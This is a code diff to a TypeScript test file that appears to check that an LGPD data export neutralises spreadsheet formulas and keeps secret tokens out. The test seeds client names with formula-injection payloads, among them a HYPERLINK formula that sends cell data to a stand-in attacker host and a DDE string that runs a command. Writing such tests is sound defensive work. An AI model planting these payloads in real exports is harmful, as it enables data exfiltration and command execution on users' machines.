@@ -6,8 +6,15 @@ import { MailMessage } from '@picineiros/db';
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import yauzl from 'yauzl';
-import { errorOf, newAccount, signUpOwner, startTestServer, type TestServer } from './harness';
-import { seedClient } from './schedule-fixtures';
+import {
+  errorOf,
+  newAccount,
+  seed,
+  seedClient,
+  signUpOwner,
+  startTestServer,
+  type TestServer,
+} from './harness';
 
 let server: TestServer;
 beforeAll(async () => {
@@ -56,7 +63,7 @@ describe('LGPD export: secrets and formulas', () => {
     const invited = [newAccount().email, newAccount().email];
     for (const email of invited) await owner.client.members.invite.mutate({ email, role: 'admin' });
     const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"clique")', "+cmd|' /C calc'!A0", '@SUM(1+1)'];
-    for (const name of formulas) await seedClient(server, owner.orgId, name);
+    for (const name of formulas) await seed(server, (em) => seedClient(em, owner.orgId, { name }));
 
     // The live tokens, read from the outbox itself (where the invite links are stored).
     const mails = await server.database
